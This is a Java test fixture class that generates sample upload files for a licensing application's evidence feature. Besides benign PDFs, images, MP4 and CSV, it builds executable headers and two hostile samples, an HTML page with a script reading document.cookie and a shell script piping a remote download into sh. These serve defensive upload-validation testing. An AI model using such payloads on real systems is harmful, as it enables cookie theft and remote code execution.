package org.lodestone.licensing.evidence;

import com.jayway.jsonpath.JsonPath;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.lodestone.licensing.ApplicationFixtures;
import org.lodestone.licensing.ApplicationId;
import org.springframework.test.web.servlet.assertj.MockMvcTester;

/** Real little files of each kind, made in the test, and applications to attach them to. */
public final class EvidenceFixtures {

    private EvidenceFixtures() {}

    /** A new real draft of {@code applicant}'s organisation, created through the application API. */
    public static ApplicationId application(MockMvcTester mvc, String applicant) {
        return ApplicationId.of(new ApplicationFixtures(mvc).draft(applicant));
    }

    /**
     * The same draft through the API of a running server ({@code base} like {@code http://127.0.0.1:8080}), for tests
     * and benchmarks that talk HTTP to a real port; {@code token} is the applicant's bearer token.
     */
    public static ApplicationId application(HttpClient http, String base, String token)
            throws IOException, InterruptedException {
        HttpResponse<String> created = http.send(
                HttpRequest.newBuilder(URI.create(base + "/api/v1/applications"))
                        .header("Authorization", "Bearer " + token)
                        .header("Content-Type", "application/json")
                        .POST(HttpRequest.BodyPublishers.ofString("{}"))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
        if (created.statusCode() != 201) {
            throw new IllegalStateException("draft not created: " + created.statusCode() + " " + created.body());
        }
        return ApplicationId.of(JsonPath.<String>read(created.body(), "$.id"));
    }

    public static byte[] pdf(String text) {
        try (var document = new PDDocument();
                var out = new ByteArrayOutputStream()) {
            var page = new PDPage();
            document.addPage(page);
            try (var content = new PDPageContentStream(document, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(72, 720);
                content.showText(text);
                content.endText();
            }
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    public static byte[] image(String format) {
        var image = new BufferedImage(8, 8, BufferedImage.TYPE_INT_RGB);
        image.setRGB(3, 3, 0xC0FFEE);
        try (var out = new ByteArrayOutputStream()) {
            if (!ImageIO.write(image, format, out)) {
                throw new IllegalStateException("no ImageIO writer for " + format);
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    /** An ISO base media file: an {@code ftyp} box with the common brand {@code isom}, then an empty {@code mdat}. */
    public static byte[] mp4() {
        var out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {0, 0, 0, 0x20});
        out.writeBytes("ftypisom".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[] {0, 0, 2, 0});
        out.writeBytes("isomiso2avc1mp41".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[] {0, 0, 0, 8});
        out.writeBytes("mdat".getBytes(StandardCharsets.US_ASCII));
        return out.toByteArray();
    }

    /** An ELF executable header (x86-64), the kind of file someone might rename to certificate.pdf. */
    public static byte[] elf() {
        byte[] elf = new byte[128];
        byte[] head = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
        System.arraycopy(head, 0, elf, 0, head.length);
        elf[16] = 2;
        elf[18] = 0x3e;
        return elf;
    }

    /** A Windows PE executable start ("MZ" DOS stub). */
    public static byte[] pe() {
        byte[] pe = new byte[128];
        pe[0] = 'M';
        pe[1] = 'Z';
        pe[2] = (byte) 0x90;
        pe[4] = 3;
        pe[8] = 4;
        pe[12] = (byte) 0xff;
        pe[13] = (byte) 0xff;
        return pe;
    }

    public static byte[] html() {
        return "<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(document.cookie)</script></body></html>"
                .getBytes(StandardCharsets.UTF_8);
    }

    public static byte[] shellScript() {
        return "#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.UTF_8);
    }

    /** A minimal OOXML package: content types first, then the main part under {@code mainDirectory} (xl/, word/). */
    public static byte[] ooxml(String mainPart) {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (String name : new String[] {"[Content_Types].xml", "_rels/.rels", mainPart}) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write(("<?xml version=\"1.0\"?><x name=\"" + name + "\"/>").getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return out.toByteArray();
    }

    public static byte[] csv() {
        return "order,element,quantity,unit\nPO-1,Dy,200,kg\nPO-2,Tb,50,kg\n".getBytes(StandardCharsets.UTF_8);
    }

    public static String sha256(byte[] bytes) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
